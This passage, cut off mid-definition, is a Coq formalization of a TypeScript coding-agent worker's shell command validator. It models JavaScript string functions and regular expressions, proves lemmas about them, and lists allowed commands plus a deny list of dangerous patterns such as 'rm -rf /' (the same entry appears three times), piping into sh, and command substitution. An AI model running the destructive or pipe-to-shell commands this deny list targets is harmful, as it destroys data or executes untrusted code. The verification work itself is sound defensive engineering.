(** * opencode_worker: command validator, resource governor, session
    lifecycle and SSH executor, embedded from the TypeScript sources.

    - [JS]        : the string primitives of the runtime the code relies on
                    (UTF-16 code units, [trim], [split(/\s+/)], [join]).
    - [Regex]     : the regular-expression literals of the sources and the
                    meaning of [RegExp.prototype.test] on them.
    - [Allowlist] : security/allowlist.ts ([validateCommand],
                    [sanitizeCommand]).
    - [Governor]  : the ResourceGovernor class of governance/resource.ts
                    ([killProcess], [stop]).
    - [Lifecycle] : session/lifecycle.ts (SessionLifecycleManager and
                    [runSessionLifecycle]).
    - [SshExecutor] : scripts/ssh-executor.ts ([parseMemory], [runJob]),
                    with the status classification of test-remote.ts.

    - [AllowlistFacts], [LifecycleFacts], [GovernorOps], [SshExecutorFacts] :
                    further properties of the same files, with the other
                    methods of ResourceGovernor and [executeWithGovernance].
    - [RemoteWorker] : LocalRemoteWorker.runJob of test-remote.ts, which
                    calls the validator, the lifecycle manager and
                    [executeWithGovernance].

    Each module gives the definitions first and the properties after them;
    the modules named [...Examples] hold concrete runs. *)

From Stdlib Require Import ZArith NArith List Bool Ascii String Lia DecimalString.
From stdpp Require Import base gmap strings list.
Import ListNotations.

(* ===================================================================== *)
(** ** JavaScript strings *)
(* ===================================================================== *)

Module JS.

(** A JavaScript string is a sequence of UTF-16 code units. *)
Definition jsstring := list N.

(** A string literal of this file, read as code units (ASCII literals only). *)
Definition js (s : string) : jsstring :=
List.map N_of_ascii (list_ascii_of_string s).

(** LineTerminator: LF, CR, LS, PS. *)
Definition is_line_terminator (c : N) : bool :=
(c =? 10)%N || (c =? 13)%N || (c =? 8232)%N || (c =? 8233)%N.

(** WhiteSpace or LineTerminator: what [\s] matches and what [trim] strips. *)
Definition is_ws (c : N) : bool :=
(c =? 9)%N || (c =? 10)%N || (c =? 11)%N || (c =? 12)%N || (c =? 13)%N ||
(c =? 32)%N || (c =? 160)%N || (c =? 5760)%N ||
((8192 <=? c)%N && (c <=? 8202)%N) ||
(c =? 8232)%N || (c =? 8233)%N || (c =? 8239)%N || (c =? 8287)%N ||
(c =? 12288)%N || (c =? 65279)%N.

(** [\d] *)
Definition is_digit (c : N) : bool := (48 <=? c)%N && (c <=? 57)%N.

(** An integer as a template literal prints it (decimal). *)
Definition show_Z (n : Z) : jsstring :=
js (NilEmpty.string_of_int (Z.to_int n)).

(** ASCII upper case of one code unit, and [toUpperCase] on ASCII text. *)
Definition upper (c : N) : N :=
if (97 <=? c)%N && (c <=? 122)%N then (c - 32)%N else c.

Definition toUpperCase (s : jsstring) : jsstring := List.map upper s.

Fixpoint drop_ws (s : jsstring) : jsstring :=
match s with
| [] => []
| c :: s' => if is_ws c then drop_ws s' else s
end.

(** [String.prototype.trim] *)
Definition trim (s : jsstring) : jsstring :=
rev (drop_ws (rev (drop_ws s))).

(** [s.split(/\s+/)]: the pieces between maximal runs of white space.  A
    leading or trailing run leaves an empty first or last piece, and the
    empty string splits into one empty piece.  [sep] says that the scan is
    inside a separator run, [cur] is the current piece, reversed. *)
Fixpoint split_ws_from (sep : bool) (cur : jsstring) (s : jsstring)
  : list jsstring :=
match s with
| [] => [rev cur]
| c :: s' =>
    if is_ws c then
      if sep then split_ws_from true cur s'
      else rev cur :: split_ws_from true [] s'
    else split_ws_from false (c :: cur) s'
end.

Definition split_ws (s : jsstring) : list jsstring := split_ws_from false [] s.

(** [parts.join(sep)] *)
Fixpoint join (sep : jsstring) (parts : list jsstring) : jsstring :=
match parts with
| [] => []
| [p] => p
| p :: rest => p ++ sep ++ join sep rest
end.

Definition jseqb (a b : jsstring) : bool := bool_decide (a = b).

(** [arr.includes(x)] on an array of strings. *)
Definition includes (arr : list jsstring) (x : jsstring) : bool :=
existsb (jseqb x) arr.

(** [s.startsWith(p)] *)
Fixpoint startsWith (s p : jsstring) : bool :=
match p, s with
| [], _ => true
| _ :: _, [] => false
| a :: p', b :: s' => (a =? b)%N && startsWith s' p'
end.

(** The maximal prefix of non-white-space code units. *)
Fixpoint take_token (s : jsstring) : jsstring :=
match s with
| [] => []
| c :: s' => if is_ws c then [] else c :: take_token s'
end.

(** The first white-space-delimited token of a string, when it has one. *)
Definition first_token (s : jsstring) : option jsstring :=
match drop_ws s with
| [] => None
| t => Some (take_token t)
end.

Example split_ws_plain :
  split_ws (js "git  log") = [js "git"; js "log"].
Proof. reflexivity. Qed.

Example split_ws_edges :
  split_ws (js " a ") = [[]; js "a"; []] /\ split_ws [] = [[]].
Proof. split; reflexivity. Qed.

Example trim_example : trim (js "  ls -la  ") = js "ls -la".
Proof. reflexivity. Qed.

(** *** Tokens, splitting and trimming *)

Lemma split_ws_from_hd cur s :
  List.hd [] (split_ws_from false cur s) = rev cur ++ take_token s.
Proof.
revert cur. induction s as [|c s IH]; intros cur; simpl.
- rewrite app_nil_r. reflexivity.
- destruct (is_ws c); simpl.
  + rewrite app_nil_r. reflexivity.
  + rewrite IH. simpl. rewrite <- app_assoc. reflexivity.
Qed.

(** The first piece of a split is the first token. *)
Lemma split_ws_hd s : List.hd [] (split_ws s) = take_token s.
Proof. apply split_ws_from_hd. Qed.

Lemma take_token_app h c rest :
  forallb (fun x => negb (is_ws x)) h = true -> is_ws c = true ->
  take_token (h ++ c :: rest) = h.
Proof.
intros Hh Hc. induction h as [|x h IH]; simpl.
- rewrite Hc. reflexivity.
- simpl in Hh. apply andb_true_iff in Hh as [Hx Hh].
  apply negb_true_iff in Hx. rewrite Hx, IH by assumption. reflexivity.
Qed.

Lemma drop_ws_app a b :
  drop_ws (a ++ b) = if forallb is_ws a then drop_ws b else drop_ws a ++ b.
Proof.
induction a as [|c a IH]; simpl; [reflexivity|].
destruct (is_ws c); simpl; [assumption | reflexivity].
Qed.

Lemma forallb_is_ws_rev s : forallb is_ws (rev s) = forallb is_ws s.
Proof.
induction s as [|c s IH]; simpl; [reflexivity|].
rewrite forallb_app, IH. simpl. rewrite andb_true_r. apply andb_comm.
Qed.

(** Trimming on the right, one code unit at a time. *)
Lemma rtrim_cons c s :
  rev (drop_ws (rev (c :: s))) =
  if forallb is_ws (c :: s) then [] else c :: rev (drop_ws (rev s)).
Proof.
cbn [rev]. rewrite drop_ws_app, forallb_is_ws_rev. cbn [forallb].
destruct (forallb is_ws s) eqn:Es.
- rewrite andb_true_r. simpl. destruct (is_ws c); [reflexivity|].
  assert (drop_ws (rev s) = []) as ->.
  { rewrite <- forallb_is_ws_rev in Es. clear -Es.
    induction (rev s) as [|x l IH]; simpl in *; [reflexivity|].
    apply andb_true_iff in Es as [-> Hl]. auto. }
  reflexivity.
- rewrite andb_false_r, rev_app_distr. reflexivity.
Qed.

Lemma take_token_rtrim s : take_token (rev (drop_ws (rev s))) = take_token s.
Proof.
induction s as [|c s IH]; [reflexivity|].
rewrite rtrim_cons. cbn [forallb take_token].
destruct (is_ws c) eqn:Ec; simpl.
- destruct (forallb is_ws s); simpl; [reflexivity | rewrite Ec; reflexivity].
- rewrite Ec, IH. reflexivity.
Qed.

Lemma drop_ws_head s :
  match drop_ws s with [] => True | c :: _ => is_ws c = false end.
Proof.
induction s as [|c s IH]; simpl; [exact I|].
destruct (is_ws c) eqn:Ec; [assumption | simpl; assumption].
Qed.

(** A string has a first token exactly when trimming leaves something, and
    the token is then the first piece of the split. *)
Lemma first_token_trim s b :
  first_token s = Some b ->
  trim s <> [] /\ List.hd [] (split_ws (trim s)) = b.
Proof.
unfold first_token, trim. intros H.
pose proof (drop_ws_head s) as Hh.
destruct (drop_ws s) as [|c t] eqn:E; [discriminate|].
injection H as <-. rewrite split_ws_hd, take_token_rtrim. split; [|reflexivity].
rewrite rtrim_cons. cbn [forallb]. rewrite Hh. simpl. discriminate.
Qed.

End JS.

(* ===================================================================== *)
(** ** Regular expressions of the sources *)
(* ===================================================================== *)

Module Regex.
Import JS.

(** The atoms the literals of the sources use. *)
Inductive cclass : Type :=
| CChar (c : N)        (* a literal code unit *)
| CNotChar (c : N)     (* [^c] *)
| CSpace               (* \s *)
| CNonSpace            (* \S *)
| CDigit               (* \d *)
| CDot.                (* .  (no s flag: any code unit but a line terminator) *)

Inductive re : Type :=
| RNull                (* matches nothing; only derivatives produce it *)
| REps
| RCls (k : cclass)
| RCat (r1 r2 : re)
| RAlt (r1 r2 : re)
| RStar (r : re).

Definition RPlus (r : re) : re := RCat r (RStar r).
Definition ROpt (r : re) : re := RAlt r REps.

(** A literal run of code units. *)
Fixpoint RLit (s : jsstring) : re :=
match s with
| [] => REps
| [c] => RCls (CChar c)
| c :: s' => RCat (RCls (CChar c)) (RLit s')
end.

(** An alternation of literals, [(a|b|c)]. *)
Fixpoint ROneOf (alts : list jsstring) : re :=
match alts with
| [] => RNull
| [a] => RLit a
| a :: rest => RAlt (RLit a) (ROneOf rest)
end.

(** A concatenation. *)
Fixpoint RSeq (rs : list re) : re :=
match rs with
| [] => REps
| [r] => r
| r :: rest => RCat r (RSeq rest)
end.

Definition cls_match (k : cclass) (c : N) : bool :=
match k with
| CChar d => (d =? c)%N
| CNotChar d => negb (d =? c)%N
| CSpace => is_ws c
| CNonSpace => negb (is_ws c)
| CDigit => is_digit c
| CDot => negb (is_line_terminator c)
end.

(** The words a regular expression matches in full. *)
Inductive matches : re -> jsstring -> Prop :=
| MEps : matches REps []
| MCls k c : cls_match k c = true -> matches (RCls k) [c]
| MCat r1 r2 w1 w2 : matches r1 w1 -> matches r2 w2 -> matches (RCat r1 r2) (w1 ++ w2)
| MAltL r1 r2 w : matches r1 w -> matches (RAlt r1 r2) w
| MAltR r1 r2 w : matches r2 w -> matches (RAlt r1 r2) w
| MStarNil r : matches (RStar r) []
| MStarCons r w1 w2 : matches r w1 -> matches (RStar r) w2 -> matches (RStar r) (w1 ++ w2).

Fixpoint nullable (r : re) : bool :=
match r with
| RNull => false
| REps => true
| RCls _ => false
| RCat r1 r2 => nullable r1 && nullable r2
| RAlt r1 r2 => nullable r1 || nullable r2
| RStar _ => true
end.

(** What is left of [r] after it has read the code unit [c]. *)
Fixpoint deriv (c : N) (r : re) : re :=
match r with
| RNull => RNull
| REps => RNull
| RCls k => if cls_match k c then REps else RNull
| RCat r1 r2 =>
    if nullable r1 then RAlt (RCat (deriv c r1) r2) (deriv c r2)
    else RCat (deriv c r1) r2
| RAlt r1 r2 => RAlt (deriv c r1) (deriv c r2)
| RStar r1 => RCat (deriv c r1) (RStar r1)
end.

(** Does some prefix of [s] match [r]?  (A match attempt at one position.) *)
Fixpoint prefix_match (r : re) (s : jsstring) : bool :=
nullable r ||
match s with
| [] => false
| c :: s' => prefix_match (deriv c r) s'
end.

(** Does a match start at some position of [s]? *)
Fixpoint search (r : re) (s : jsstring) : bool :=
prefix_match r s ||
match s with
| [] => false
| _ :: s' => search r s'
end.

(** A regular-expression literal without flags: its text between the
    slashes ([source]), whether it opens with [^], and the rest of it. *)
Record pattern : Type := Pattern {
  source : string;
  anchored : bool;
  body : re
}.

(** [pattern.test(s)] for a literal without the g or y flag (stateless). *)
Definition test (p : pattern) (s : jsstring) : bool :=
if anchored p then prefix_match (body p) s else search (body p) s.

(** [String(pattern)], as a template literal interpolates it. *)
Definition pattern_to_string (p : pattern) : jsstring :=
js "/" ++ js (source p) ++ js "/".

(** Every non-empty word of [r] begins with a code unit that is not white
    space (decided on the syntax, conservatively). *)
Definition cls_nonws (k : cclass) : bool :=
match k with
| CChar c => negb (is_ws c)
| CNonSpace => true
| CDigit => true
| CNotChar _ | CSpace | CDot => false
end.

Fixpoint head_nonws (r : re) : bool :=
match r with
| RNull | REps => true
| RCls k => cls_nonws k
| RCat r1 r2 => head_nonws r1 && (negb (nullable r1) || head_nonws r2)
| RAlt r1 r2 => head_nonws r1 && head_nonws r2
| RStar r1 => head_nonws r1
end.

Fixpoint last_nonws (r : re) : bool :=
match r with
| RNull | REps => true
| RCls k => cls_nonws k
| RCat r1 r2 => last_nonws r2 && (negb (nullable r2) || last_nonws r1)
| RAlt r1 r2 => last_nonws r1 && last_nonws r2
| RStar r1 => last_nonws r1
end.

(** A pattern whose matches are never empty and neither begin nor end with
    white space: trimming the subject cannot lose or create a match. *)
Definition trim_stable (p : pattern) : bool :=
negb (anchored p) && negb (nullable (body p)) &&
head_nonws (body p) && last_nonws (body p).

(** The words of a regular expression built from literal code units only
    (no class, no star), listed; [None] for any other expression. *)
Fixpoint lit_words (r : re) : option (list jsstring) :=
match r with
| RNull => Some []
| REps => Some [[]]
| RCls (CChar c) => Some [[c]]
| RCls _ => None
| RCat r1 r2 =>
    match lit_words r1, lit_words r2 with
    | Some l1, Some l2 => Some (List.flat_map (fun a => List.map (app a) l2) l1)
    | _, _ => None
    end
| RAlt r1 r2 =>
    match lit_words r1, lit_words r2 with
    | Some l1, Some l2 => Some (l1 ++ l2)
    | _, _ => None
    end
| RStar _ => None
end.

(** Every word of [r] begins with a white-space code unit. *)
Fixpoint lead_ws (r : re) : bool :=
match r with
| RCls CSpace => true
| RCat r1 _ => lead_ws r1
| RAlt r1 r2 => lead_ws r1 && lead_ws r2
| _ => false
end.

(** The literal words an expression of the shape [name \s ...] can open
    with, up to the white space that must follow them. *)
Fixpoint command_heads (r : re) : option (list jsstring) :=
match r with
| RCat r1 r2 =>
    match lit_words r1 with
    | Some l1 =>
        if lead_ws r2 then Some l1
        else match command_heads r2 with
             | Some l2 => Some (List.flat_map (fun a => List.map (app a) l2) l1)
             | None => None
             end
    | None => None
    end
| _ => None
end.

(** *** The matcher computes the words of [matches] *)

Lemma matches_cat_inv r1 r2 w :
  matches (RCat r1 r2) w ->
  exists w1 w2, w = w1 ++ w2 /\ matches r1 w1 /\ matches r2 w2.
Proof. intros H. inversion H; subst. eauto. Qed.

Lemma matches_alt_inv r1 r2 w :
  matches (RAlt r1 r2) w -> matches r1 w \/ matches r2 w.
Proof. intros H. inversion H; subst; auto. Qed.

Lemma matches_cls_inv k w :
  matches (RCls k) w -> exists c, w = [c] /\ cls_match k c = true.
Proof. intros H. inversion H; subst. eauto. Qed.

Lemma nullable_spec r : nullable r = true <-> matches r [].
Proof.
induction r; simpl; split; intros H;
  try discriminate; try (inversion H; fail);
  try solve [apply MEps | apply MStarNil | reflexivity].
- apply andb_true_iff in H as [H1 H2].
  change (@nil N) with (@nil N ++ @nil N).
  constructor; [apply IHr1 | apply IHr2]; assumption.
- apply matches_cat_inv in H as (w1 & w2 & E & M1 & M2).
  destruct w1, w2; try discriminate.
  apply andb_true_iff; split; [apply IHr1 | apply IHr2]; assumption.
- apply orb_true_iff in H as [H|H];
    [apply MAltL, IHr1 | apply MAltR, IHr2]; assumption.
- apply orb_true_iff.
  apply matches_alt_inv in H as [H|H];
    [left; apply IHr1 | right; apply IHr2]; assumption.
Qed.

Lemma matches_star_cons r c w :
  matches (RStar r) (c :: w) ->
  exists w1 w2, w = w1 ++ w2 /\ matches r (c :: w1) /\ matches (RStar r) w2.
Proof.
intros H. remember (RStar r) as r' eqn:Er. remember (c :: w) as cw eqn:Ew.
revert w Ew. induction H; intros v Ev; try discriminate.
injection Er as ->.
destruct w1 as [|d w1'].
- simpl in Ev. apply IHmatches2; [reflexivity | assumption].
- simpl in Ev. injection Ev as -> <-.
  exists w1', w2. repeat split; assumption.
Qed.

Lemma deriv_spec c r w : matches (deriv c r) w <-> matches r (c :: w).
Proof.
revert w. induction r; intros w; simpl.
- split; intros H; inversion H.
- split; intros H; inversion H.
- destruct (cls_match k c) eqn:Ek; split; intros H.
  + inversion H; subst. constructor; assumption.
  + inversion H; subst. constructor.
  + inversion H.
  + inversion H; subst. congruence.
- assert (Hcat : matches (RCat (deriv c r1) r2) w ->
                 matches (RCat r1 r2) (c :: w)).
  { intros H. apply matches_cat_inv in H as (w1 & w2 & -> & M1 & M2).
    change (c :: w1 ++ w2) with ((c :: w1) ++ w2).
    constructor; [apply IHr1 |]; assumption. }
  assert (Hinv : matches (RCat r1 r2) (c :: w) ->
                 (matches r1 [] /\ matches r2 (c :: w)) \/
                 matches (RCat (deriv c r1) r2) w).
  { intros H. apply matches_cat_inv in H as (w1 & w2 & E & M1 & M2).
    destruct w1 as [|d w1']; simpl in E.
    - subst. left. split; assumption.
    - injection E as -> ->. right. constructor; [apply IHr1 |]; assumption. }
  destruct (nullable r1) eqn:En; split; intros H.
  + apply matches_alt_inv in H as [H|H]; [apply Hcat; assumption |].
    change (c :: w) with ([] ++ c :: w).
    constructor; [apply nullable_spec | apply IHr2]; assumption.
  + apply Hinv in H as [[M1 M2]|H].
    * apply MAltR, IHr2. assumption.
    * apply MAltL. assumption.
  + apply Hcat; assumption.
  + apply Hinv in H as [[M1 M2]|H]; [|assumption].
    apply nullable_spec in M1. congruence.
- split; intros H; apply matches_alt_inv in H as [H|H];
    solve [apply MAltL, IHr1; assumption | apply MAltR, IHr2; assumption].
- split; intros H.
  + apply matches_cat_inv in H as (w1 & w2 & -> & M1 & M2).
    change (c :: w1 ++ w2) with ((c :: w1) ++ w2).
    constructor; [apply IHr |]; assumption.
  + apply matches_star_cons in H as (w1 & w2 & -> & M1 & M2).
    constructor; [apply IHr |]; assumption.
Qed.

Lemma prefix_match_spec r s :
  prefix_match r s = true <-> exists w b, s = w ++ b /\ matches r w.
Proof.
revert r. induction s as [|c s IH]; intros r; simpl.
- rewrite orb_false_r, nullable_spec. split.
  + intros H. exists [], []. split; [reflexivity | assumption].
  + intros (w & b & E & M). destruct w; [assumption | discriminate].
- rewrite orb_true_iff, nullable_spec, IH. split.
  + intros [H | (w & b & -> & M)].
    * exists [], (c :: s). split; [reflexivity | assumption].
    * exists (c :: w), b. split; [reflexivity | apply deriv_spec; assumption].
  + intros (w & b & E & M). destruct w as [|d w]; [left; assumption |].
    simpl in E. injection E as -> ->. right.
    exists w, b. split; [reflexivity | apply deriv_spec; assumption].
Qed.

Lemma search_spec r s :
  search r s = true <-> exists a w b, s = a ++ w ++ b /\ matches r w.
Proof.
induction s as [|c s IH]; cbn [search].
- rewrite orb_false_r, prefix_match_spec. split.
  + intros (w & b & E & M). exists [], w, b. split; assumption.
  + intros (a & w & b & E & M). destruct a; [|discriminate].
    exists w, b. split; assumption.
- rewrite orb_true_iff, prefix_match_spec, IH. split.
  + intros [(w & b & E & M) | (a & w & b & -> & M)].
    * exists [], w, b. split; assumption.
    * exists (c :: a), w, b. split; [reflexivity | assumption].
  + intros (a & w & b & E & M). destruct a as [|d a]; simpl in E.
    * left. exists w, b. split; assumption.
    * injection E as -> ->. right. exists a, w, b. split; [reflexivity | assumption].
Qed.

(** *** Soundness of the two syntactic checks *)

Lemma cls_nonws_sound k c :
  cls_nonws k = true -> cls_match k c = true -> is_ws c = false.
Proof.
destruct k; simpl; try discriminate; intros Hk Hm.
- apply N.eqb_eq in Hm as ->. apply negb_true_iff. assumption.
- apply negb_true_iff. assumption.
- unfold is_digit in Hm. apply andb_true_iff in Hm as [H1 H2].
  apply N.leb_le in H1, H2. unfold is_ws.
  repeat (apply orb_false_iff; split);
    try (apply N.eqb_neq; lia).
  apply andb_false_iff. left. apply N.leb_gt. lia.
Qed.

Lemma head_nonws_sound r w :
  head_nonws r = true -> matches r w ->
  match w with [] => True | c :: _ => is_ws c = false end.
Proof.
intros Hh M. induction M; simpl in Hh; try exact I.
- eapply cls_nonws_sound; eassumption.
- apply andb_true_iff in Hh as [H1 H2].
  destruct w1 as [|c w1']; simpl.
  + apply orb_true_iff in H2 as [H2|H2].
    * apply negb_true_iff in H2. apply nullable_spec in M1. congruence.
    * apply IHM2. assumption.
  + apply IHM1. assumption.
- apply andb_true_iff in Hh as [H1 H2]. apply IHM. assumption.
- apply andb_true_iff in Hh as [H1 H2]. apply IHM. assumption.
- destruct w1 as [|c w1']; simpl; [apply IHM2 | apply IHM1]; assumption.
Qed.

Lemma last_nonws_sound r w :
  last_nonws r = true -> matches r w ->
  match rev w with [] => True | c :: _ => is_ws c = false end.
Proof.
intros Hh M. induction M; simpl in Hh; try exact I.
- eapply cls_nonws_sound; eassumption.
- apply andb_true_iff in Hh as [H1 H2]. rewrite rev_app_distr.
  destruct (rev w2) as [|c w2'] eqn:E2; simpl.
  + apply orb_true_iff in H2 as [H2|H2].
    * apply negb_true_iff in H2.
      assert (w2 = []) as -> by (destruct w2; [reflexivity|]; simpl in E2;
        destruct (rev w2); discriminate).
      apply nullable_spec in M2. congruence.
    * apply IHM1. assumption.
  + apply IHM2. assumption.
- apply andb_true_iff in Hh as [H1 H2]. apply IHM. assumption.
- apply andb_true_iff in Hh as [H1 H2]. apply IHM. assumption.
- rewrite rev_app_distr.
  destruct (rev w2) as [|c w2'] eqn:E2; simpl; [apply IHM1 | apply IHM2]; assumption.
Qed.

(** *** Trimming the subject of a trim-stable pattern *)

Lemma search_skip_ws r c s :
  nullable r = false -> head_nonws r = true -> is_ws c = true ->
  search r (c :: s) = search r s.
Proof.
intros Hn Hh Hc. cbn [search].
destruct (prefix_match r (c :: s)) eqn:E; [|reflexivity].
apply prefix_match_spec in E as (w & b & E & M).
destruct w as [|d w].
- apply nullable_spec in M. congruence.
- simpl in E. injection E as <- _.
  pose proof (head_nonws_sound _ _ Hh M) as Hd. simpl in Hd. congruence.
Qed.

Lemma search_drop_ws r s :
  nullable r = false -> head_nonws r = true ->
  search r (drop_ws s) = search r s.
Proof.
intros Hn Hh. induction s as [|c s IH]; [reflexivity|].
cbn [drop_ws]. destruct (is_ws c) eqn:Ec; [|reflexivity].
rewrite IH. symmetry. apply search_skip_ws; assumption.
Qed.

Lemma snoc_cases (l : jsstring) : l = [] \/ exists l' a, l = l' ++ [a].
Proof. induction l using rev_ind; [left; reflexivity | right; eauto]. Qed.

Lemma search_snoc_ws r c s :
  nullable r = false -> last_nonws r = true -> is_ws c = true ->
  search r (s ++ [c]) = search r s.
Proof.
intros Hn Hl Hc. apply eq_true_iff_eq. rewrite !search_spec. split.
- intros (a & w & b & E & M).
  destruct (snoc_cases b) as [Hb | (b' & c' & ->)].
  + subst b. exfalso. rewrite app_nil_r in E.
    destruct (snoc_cases w) as [Hw | (w' & d & ->)].
    * subst w. apply nullable_spec in M. congruence.
    * rewrite app_assoc in E. apply app_inj_tail in E as [_ <-].
      pose proof (last_nonws_sound _ _ Hl M) as Hd.
      rewrite rev_unit in Hd. congruence.
  + rewrite !app_assoc in E. apply app_inj_tail in E as [E _].
    exists a, w, b'. rewrite app_assoc. split; assumption.
- intros (a & w & b & -> & M).
  exists a, w, (b ++ [c]). split; [|assumption].
  rewrite <- !app_assoc. reflexivity.
Qed.

Lemma search_rev_drop_ws r u :
  nullable r = false -> last_nonws r = true ->
  search r (rev (drop_ws u)) = search r (rev u).
Proof.
intros Hn Hl. induction u as [|c u IH]; [reflexivity|].
cbn [drop_ws]. destruct (is_ws c) eqn:Ec; [|reflexivity].
rewrite IH. simpl. symmetry. apply search_snoc_ws; assumption.
Qed.

(** A trim-stable pattern matches a string exactly when it matches the
    trimmed string. *)
Lemma test_trim p s : trim_stable p = true -> test p (trim s) = test p s.
Proof.
unfold trim_stable, test. intros H.
repeat (apply andb_true_iff in H as [H ?]).
apply negb_true_iff in H. rewrite H.
assert (Hn : nullable (body p) = false) by (apply negb_true_iff; assumption).
unfold trim. rewrite search_rev_drop_ws, rev_involutive by assumption.
apply search_drop_ws; assumption.
Qed.

(** *** The heads of command templates *)

Lemma lit_words_sound r l w : lit_words r = Some l -> matches r w -> In w l.
Proof.
intros Hl M. revert l Hl. induction M; intros l Hl; simpl in Hl.
- injection Hl as <-. left. reflexivity.
- destruct k; try discriminate. injection Hl as <-.
  simpl in H. apply N.eqb_eq in H as ->. left. reflexivity.
- destruct (lit_words r1) as [l1|]; [|discriminate].
  destruct (lit_words r2) as [l2|]; [|discriminate].
  injection Hl as <-. apply in_flat_map. exists w1. split; [auto|].
  apply in_map. auto.
- destruct (lit_words r1) as [l1|]; [|discriminate].
  destruct (lit_words r2) as [l2|]; [|discriminate].
  injection Hl as <-. apply in_or_app. left. auto.
- destruct (lit_words r1) as [l1|]; [|discriminate].
  destruct (lit_words r2) as [l2|]; [|discriminate].
  injection Hl as <-. apply in_or_app. right. auto.
- discriminate.
- discriminate.
Qed.

Lemma lead_ws_sound r w :
  lead_ws r = true -> matches r w -> exists c w', w = c :: w' /\ is_ws c = true.
Proof.
intros Hl M. induction M; simpl in Hl; try discriminate.
- destruct k; try discriminate. simpl in H. eauto.
- destruct (IHM1 Hl) as (c & w' & -> & Hc). exists c, (w' ++ w2). auto.
- apply andb_true_iff in Hl as [H1 H2]. auto.
- apply andb_true_iff in Hl as [H1 H2]. auto.
Qed.

Lemma command_heads_sound r l w :
  command_heads r = Some l -> matches r w ->
  exists h c w', w = h ++ c :: w' /\ is_ws c = true /\ In h l.
Proof.
revert l w. induction r; intros l w Hl M; simpl in Hl; try discriminate.
apply matches_cat_inv in M as (w1 & w2 & -> & M1 & M2).
destruct (lit_words r1) as [l1|] eqn:E1; [|discriminate].
pose proof (lit_words_sound _ _ _ E1 M1) as Hin1.
destruct (lead_ws r2) eqn:E2.
- injection Hl as <-.
  destruct (lead_ws_sound _ _ E2 M2) as (c & w' & -> & Hc).
  exists w1, c, w'. auto.
- destruct (command_heads r2) as [l2|] eqn:E3; [|discriminate].
  injection Hl as <-.
  destruct (IHr2 _ _ eq_refl M2) as (h & c & w' & -> & Hc & Hin2).
  exists (w1 ++ h), c, w'. rewrite <- app_assoc. repeat split; [assumption|].
  apply in_flat_map. exists w1. split; [assumption|]. apply in_map. assumption.
Qed.

End Regex.

(* ===================================================================== *)
(** ** src/security/allowlist.ts *)
(* ===================================================================== *)

Module Allowlist.
Import JS Regex.

Definition ALLOWED_COMMANDS : list jsstring := List.map js [
  "npx"; "node"; "npm"; "bun"; "pnpm"; "yarn"; "git"; "bash"; "sh"; "cat";
  "ls"; "mkdir"; "rm"; "cp"; "mv"; "chmod"; "chown"; "find"; "grep"; "sed";
  "awk"; "jq"; "curl"; "wget"; "tar"; "unzip"; "zip"; "echo"; "printf";
  "head"; "tail"; "wc"; "sort"; "uniq"; "cut"; "tr"; "diff"; "patch";
  "make"; "cmake"; "cargo"; "rustc"; "go"; "python"; "python3"; "pip";
  "pip3"; "uv"; "poetry"; "opencode"; "type"; "which"; "whoami"; "id";
  "env"; "printenv"; "date"; "sleep"; "timeout"; "pwd"; "hostname"; "uname"
]%string.

(** Shorthands for the pieces of the literals below. *)
Definition lit (s : string) : re := RLit (js s).
Definition ws1 : re := RPlus (RCls CSpace).        (* \s+ *)
Definition ws0 : re := RStar (RCls CSpace).        (* \s* *)
Definition any0 : re := RStar (RCls CDot).         (* .*  *)
Definition oneof (alts : list string) : re := ROneOf (List.map js alts).

Definition pm_subcommands : list string :=
  ["run"; "install"; "test"; "build"; "start"; "dev"]%string.

Definition ALLOWED_PATTERNS : list pattern := [
  Pattern "^npx\s+\S+" true (RSeq [lit "npx"; ws1; RPlus (RCls CNonSpace)]);
  Pattern "^node\s+\S+" true (RSeq [lit "node"; ws1; RPlus (RCls CNonSpace)]);
  Pattern "^npm\s+(run|install|test|build|start|dev)\s*" true
    (RSeq [lit "npm"; ws1; oneof pm_subcommands; ws0]);
  Pattern "^bun\s+(run|install|test|build|start|dev)\s*" true
    (RSeq [lit "bun"; ws1; oneof pm_subcommands; ws0]);
  Pattern "^pnpm\s+(run|install|test|build|start|dev)\s*" true
    (RSeq [lit "pnpm"; ws1; oneof pm_subcommands; ws0]);
  Pattern
    "^git\s+(clone|pull|push|checkout|checkout\s+-b|add|commit|status|log|branch|merge|fetch|remote)\s*"
    true
    (RSeq [lit "git"; ws1;
           RAlt (oneof ["clone"; "pull"; "push"; "checkout"]%string)
             (RAlt (RSeq [lit "checkout"; ws1; lit "-b"])
                (oneof ["add"; "commit"; "status"; "log"; "branch"; "merge";
                        "fetch"; "remote"]%string));
           ws0]);
  Pattern "^cargo\s+(build|test|run|check|doc|clippy|fmt)\s*" true
    (RSeq [lit "cargo"; ws1;
           oneof ["build"; "test"; "run"; "check"; "doc"; "clippy"; "fmt"]%string;
           ws0]);
  Pattern "^go\s+(run|build|test|get|mod|vet|fmt)\s*" true
    (RSeq [lit "go"; ws1;
           oneof ["run"; "build"; "test"; "get"; "mod"; "vet"; "fmt"]%string;
           ws0]);
  Pattern "^python3?\s+.*\.py" true
    (RSeq [lit "python"; ROpt (lit "3"); ws1; any0; lit ".py"]);
  Pattern "^make\s+" true (RSeq [lit "make"; ws1]);
  Pattern "^cmake\s+" true (RSeq [lit "cmake"; ws1]);
  Pattern "^bash\s+" true (RSeq [lit "bash"; ws1]);
  Pattern "^bash\s+-c\s+" true (RSeq [lit "bash"; ws1; lit "-c"; ws1]);
  Pattern "^sh\s+" true (RSeq [lit "sh"; ws1]);
  Pattern "^sh\s+-c\s+" true (RSeq [lit "sh"; ws1; lit "-c"; ws1]);
  Pattern "^cat\s+.*" true (RSeq [lit "cat"; ws1; any0]);
  Pattern "^echo\s+.*" true (RSeq [lit "echo"; ws1; any0]);
  Pattern "^sleep\s+\d+" true (RSeq [lit "sleep"; ws1; RPlus (RCls CDigit)]);
  Pattern "^timeout\s+\d+\s+" true
    (RSeq [lit "timeout"; ws1; RPlus (RCls CDigit); ws1])
].

Record CommandValidationResult : Type := {
  allowed : bool;
  reason : option jsstring;
  sanitized_command : option jsstring
}.

Definition rm_rf_root : pattern :=
  Pattern "rm\s+-rf\s+\/" false (RSeq [lit "rm"; ws1; lit "-rf"; ws1; lit "/"]).

Definition DANGEROUS_PATTERNS : list pattern := [
  rm_rf_root;
  rm_rf_root;
  rm_rf_root;
  Pattern "\/\s*\|\s*sh" false (RSeq [lit "/"; ws0; lit "|"; ws0; lit "sh"]);
  Pattern "\>\s*\/dev\/null" false (RSeq [lit ">"; ws0; lit "/dev/null"]);
  Pattern "\$\(" false (lit "$(");
  Pattern "`[^`]+`" false
